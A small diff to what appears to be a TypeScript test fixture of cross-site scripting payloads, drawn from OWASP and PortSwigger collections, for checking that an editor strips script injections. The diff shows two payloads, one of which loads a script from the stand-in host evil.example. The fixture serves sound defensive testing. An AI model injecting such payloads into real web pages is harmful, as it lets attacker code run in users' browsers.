@@ -1,7 +1,6 @@
-/** What a payload calls when it runs. */
 const call = 'window.__ran=1';
 
-/** Script injections: of the OWASP and PortSwigger collections, mutation XSS, and what editors have let through before. */
+/** Script injections from the OWASP and PortSwigger collections, mutation XSS, and payloads that editors once let through. */
 export const scriptPayloads: readonly string[] = [
   `<script>${call}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
